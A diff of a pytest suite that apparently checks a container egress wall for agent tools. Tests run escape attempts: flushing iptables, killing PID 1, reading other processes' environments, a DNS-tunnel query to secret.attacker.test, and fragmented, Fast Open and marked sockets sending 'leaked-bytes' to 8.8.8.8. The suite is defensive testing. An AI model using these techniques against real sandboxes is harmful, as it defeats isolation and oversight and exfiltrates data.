@@ -1,11 +1,11 @@
-"""The wall: what the policy doesn't allow can't leave, whatever kind of packet it is, and is told so
-at once. Judged on the wire, not by what the payload believes."""
+"""The wall: what the policy doesn't allow can't leave, whatever kind of packet it is, and is told
+so at once. Judged on the wire, not by what the payload believes."""
 
 import json
 import re
 
 import pytest
-from conftest import FLAGS, until
+from conftest import until
 from internet import DNS_ADDRESS, Wire, address_of
 
 # Tries each destination as an agent's tool could, and prints what came of it and how long it took.
@@ -75,7 +75,9 @@ SPECIAL = [
 ]
 
 
-@pytest.mark.parametrize("destinations", [PUBLIC, INSIDE, SPECIAL], ids=["public", "inside", "special"])
+@pytest.mark.parametrize(
+    "destinations", [PUBLIC, INSIDE, SPECIAL], ids=["public", "inside", "special"]
+)
 def test_what_no_rule_allows_is_refused_at_once(run, sinks, wire, destinations):
     refused(attempt(run, destinations))
     assert sinks.seen() == []
@@ -98,11 +100,14 @@ def test_the_gateway_is_refused_and_without_the_wall_it_is_not(run, wire):
 
 
 def test_tools_get_an_error_not_a_hang(shell):
-    done = shell("""
-        for target in https://8.8.8.8 http://10.0.0.1 http://169.254.169.254/latest http://[2001:4860:4860::8888]/; do
+    done = shell(
+        """
+        for target in https://8.8.8.8 http://10.0.0.1 http://169.254.169.254/latest \
+            http://[2001:4860:4860::8888]/; do
             s=$(date +%s%N); curl -gsS -m 5 $target; r=$?; e=$(date +%s%N)
             echo "$r $(((e - s) / 1000000))"
-        done""").ok()
+        done"""
+    ).ok()
     for line in done.lines():
         status, milliseconds = map(int, line.split())
         assert status == 7 and milliseconds < 1000, done
@@ -163,44 +168,57 @@ except OSError as e:
 E"""
     shell(script, options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"]).ok()
     assert [f for f in wire.seen() if f.protocol == "icmp"] == []
-    shell(script, options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"],
-          init=["--egress=off", "--user", "1000"]).ok()
+    shell(
+        script,
+        options=["--sysctl", "net.ipv4.ping_group_range=0 2147483647"],
+        init=["--egress=off", "--user", "1000"],
+    ).ok()
 
 
 def test_the_payload_has_no_say_over_the_wall(shell, sinks):
-    done = shell("""
-        nft list ruleset 2>&1; nft flush ruleset 2>&1; iptables -F 2>&1; ip route del prohibit 10.0.0.0/8 2>&1
-        ip route add default via 172.30.0.1 2>&1; ip link set eth0 down 2>&1; ip addr add 1.2.3.4/32 dev lo 2>&1
-        unshare -Urn true 2>&1; ls -l /proc/1/fd 2>&1; kill -9 1 2>&1; echo x >/proc/sys/net/ipv4/ip_forward
-        curl -sS -m 3 https://8.8.8.8""")
+    done = shell(
+        """
+        exec 2>&1
+        iptables -F; iptables -P OUTPUT ACCEPT; ip route del prohibit 10.0.0.0/8
+        ip route add default via 172.30.0.1; ip link set eth0 down; ip addr add 1.2.3.4/32 dev lo
+        unshare -Urn true; ls -l /proc/1/fd; kill -9 1; echo x >/proc/sys/net/ipv4/ip_forward
+        curl -sS -m 3 https://8.8.8.8"""
+    )
     assert done.status == 7, done
     assert sinks.seen() == []
 
 
 def test_the_payload_cannot_touch_our_processes(shell):
-    done = shell(r"""
+    done = shell(
+        r"""
         for p in /proc/[0-9]*; do
             [ "$(stat -c %u $p 2>/dev/null)" = "$(id -u)" ] && continue
             n=${p#/proc/}; echo "process $n $(cat $p/comm)"
             kill -KILL $n 2>/dev/null && echo "BROKEN: killed $n"
             cat $p/environ >/dev/null 2>&1 && echo "BROKEN: read $n"
             ls $p/fd >/dev/null 2>&1 && echo "BROKEN: listed $n"
-        done; true""").ok()
+        done; true"""
+    ).ok()
     assert "process 1 codex-init" in done.out
     assert len(done.lines()) >= 2, "the resolver lives beside PID 1"
     assert "BROKEN" not in done.out
 
 
 def test_the_control_directory_is_roots(shell):
-    done = shell("touch /run/codex/x 2>/dev/null && echo BROKEN; cat /run/codex/control 2>/dev/null"
-                 " && echo BROKEN; stat -c %U /run/codex").ok()
+    done = shell(
+        "touch /run/codex/x 2>/dev/null && echo BROKEN; cat /run/codex/control 2>/dev/null"
+        " && echo BROKEN; stat -c %U /run/codex"
+    ).ok()
     assert done.lines() == ["root"]
 
 
 def test_another_container_is_refused(start, run, wire, docker):
     """Neighbours on the bridge can't be reached, by name or by address."""
     server = start("python3", "-m", "http.server", "-b", "0.0.0.0", "8000", init=["--egress=off"])
-    until(lambda: "Serving" in server.logs() or server.exec("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000").status == 0)
+    until(
+        lambda: "Serving" in server.logs()
+        or server.exec("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/8000").status == 0
+    )
     address = server.address()
     refused(attempt(run, [("tcp", address, 8000), ("udp", address, 8000)]))
     assert wire.to(address) == []
@@ -217,10 +235,12 @@ def test_a_neighbour_cannot_come_in(start, run):
 
 
 def test_loopback_is_open(shell):
-    done = shell("""
+    done = shell(
+        """
         python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 & 
-        for i in $(seq 100); do curl -sS -o /dev/null http://127.0.0.1:8000 2>/dev/null && break; sleep 0.05; done
-        curl -sS -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:8000; kill $!""").ok()
+        for i in $(seq 100); do curl -so /dev/null http://127.0.0.1:8000 && break; sleep 0.05; done
+        curl -sS -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:8000; kill $!"""
+    ).ok()
     assert done.lines()[-1] == "200"
 
 
@@ -254,9 +274,13 @@ def test_ipv6_of_an_allowed_name_is_open(run, network, dns, sinks):
 
 EMBEDDED = r"""
 import re, socket, struct
-query = bytes.fromhex("123401000001000000000000") + b"\x06secret\x08attacker\x04test\0" + b"\0\1\0\1"
-ports = [53] + [int(l.split()[1].split(":")[1], 16) for f in ("tcp", "udp")
-                for l in open("/proc/net/" + f).read().splitlines()[1:] if l.split()[1].startswith("0B00007F")]
+query = bytes.fromhex("123401000001000000000000")
+query += b"\x06secret\x08attacker\x04test\0" + b"\0\1\0\1"
+ports = [53]
+for name in ("/proc/net/tcp", "/proc/net/udp"):
+    for local in (line.split()[1] for line in open(name).read().splitlines()[1:]):
+        if local.startswith("0B00007F:"):
+            ports.append(int(local[9:], 16))
 print(sorted(set(ports)))
 for port in ports:
     for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
@@ -272,7 +296,7 @@ for port in ports:
 
 
 def test_the_engines_embedded_resolver_is_no_tunnel(run, network, dns, sinks):
-    """On a user-defined network 127.0.0.11 forwards questions. The payload reaches it on no port."""
+    """On a user-defined network 127.0.0.11 forwards questions; the payload reaches none of it."""
     name = network()
     done = run("python3", "-c", EMBEDDED, network=name).ok()
     ports = json.loads(done.lines()[0])
@@ -295,7 +319,11 @@ def test_other_tables_stay_as_they_were(start, network, lab):
 
     def nat(box):
         listing = lab.engine.in_container(box.name, "iptables-save", "-t", "nat")
-        return [re.sub(r"(:|--sport )\d+", "port", l) for l in listing.splitlines() if l.startswith("-A")]
+        return [
+            re.sub(r"(:|--sport )\d+", "port", l)
+            for l in listing.splitlines()
+            if l.startswith("-A")
+        ]
 
     name = network()
     plain = start("sleep", "60", network=name, init=["--egress=off"])
@@ -311,8 +339,11 @@ def test_the_wall_stands_before_the_hook(run, tmp_path, sinks):
     home = tmp_path / "in"
     home.mkdir()
     hook = home / "init.sh"
-    hook.write_text("#!/bin/bash\ncurl -sS https://api.openai.com/; curl -sS -m 3 https://8.8.8.8 https://example.com;"
-                    "grep CapBnd /proc/self/status; id -u\n")
+    hook.write_text(
+        "#!/bin/bash\ncurl -sS https://api.openai.com/;"
+        "curl -sS -m 3 https://8.8.8.8 https://example.com;"
+        "grep CapBnd /proc/self/status; id -u\n"
+    )
     hook.chmod(0o755)
     done = run("true", options=["-v", f"{home}:/run/codex/in:ro"]).ok()
     assert "this is api.openai.com" in done.out
@@ -321,8 +352,10 @@ def test_the_wall_stands_before_the_hook(run, tmp_path, sinks):
 
 
 def test_audit_lets_through_and_records(shell, sinks):
-    done = shell("curl -sS https://example.com; grep -c example.com /run/codex/events.jsonl",
-                 init=["--egress=audit"]).ok()
+    done = shell(
+        "curl -sS https://example.com; grep -c example.com /run/codex/events.jsonl",
+        init=["--egress=audit"],
+    ).ok()
     assert ("tcp", address_of("example.com"), 443) in sinks.seen()
     assert "--allow example.com" in done.err, done
 
@@ -342,9 +375,76 @@ def test_a_private_network_needs_its_suffix(run, sinks):
 
 
 def test_a_private_network_without_it_is_refused(run, sinks):
-    done = run("python3", "-c", TRY, json.dumps([("tcp", "10.20.0.9", 5432)]), allow="10.20.0.0/16:5432")
+    done = run(
+        "python3", "-c", TRY, json.dumps([("tcp", "10.20.0.9", 5432)]), allow="10.20.0.0/16:5432"
+    )
     if done.status == 0:  # a rule that can't open anything may also be refused as a mistake
         refused([json.loads(line) for line in done.lines()])
     else:
         assert done.status == 100
     assert sinks.seen() == []
+
+
+def test_root_by_the_engines_door_is_walled_too(start, sinks):
+    """`docker exec` as root brings a process that codex-init never saw; the wall holds for it."""
+    box = start("sleep", "60", allow="allowed.test")
+    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
+    for target in ("https://8.8.8.8", "http://10.0.0.1", "https://example.com"):
+        assert box.exec("curl", "-sS", "-m", "5", target).status in (6, 7)
+    assert sinks.seen() == []
+
+
+def test_a_big_policy(run, sinks):
+    """Two thousand names that do not exist, and the one that does still works."""
+    names = " ".join(f"n{i}.nowhere.test" for i in range(2000))
+    done = run(
+        "curl", "-sS", "-o", "/dev/null", "https://allowed.test", allow=f"{names} allowed.test"
+    )
+    assert done.ok().seconds < 20
+    assert sinks.addresses() == {address_of("allowed.test")}
+
+
+FRAGMENTS = r"""
+import socket
+# A datagram in three fragments, and one with IP options, to where nothing may go.
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for options, size in ((b"", 4000), (bytes([7, 7, 4, 0, 0, 0, 0, 0]), 100)):
+    try:
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
+        s.sendto(b"leaked-bytes" * (size // 12), ("8.8.8.8", 4500))
+    except OSError as e:
+        print(e)
+# TCP Fast Open carries data in its SYN, and connect() is never called.
+t = socket.socket()
+try:
+    t.sendto(b"leaked-bytes", 0x20000000, ("8.8.8.8", 443))
+except OSError as e:
+    print(e)
+# Other ways to name the same place.
+for address in ("8.8.2056", "0x08080808", "134744072"):
+    try:
+        socket.create_connection((address, 443), 2).close()
+        print("BROKEN", address)
+    except OSError as e:
+        print(e)
+# A socket bound to a device, or with a mark, routes differently where that is allowed.
+for level, option, value in ((1, 25, b"eth0\0"), (1, 36, b"\x01\0\0\0"), (0, 15, b"\x01\0\0\0")):
+    u = socket.socket()
+    u.settimeout(2)
+    try:
+        u.setsockopt(level, option, value)
+    except OSError as e:
+        print(option, e)
+    try:
+        u.connect(("8.8.8.8", 443))
+        print("BROKEN option", option)
+    except OSError as e:
+        print(option, e)
+"""
+
+
+def test_tricks_with_sockets(run, wire):
+    done = run("python3", "-c", FRAGMENTS).ok()
+    assert "BROKEN" not in done.out
+    assert wire.seen() == []
+    assert not wire.carried(b"leaked")
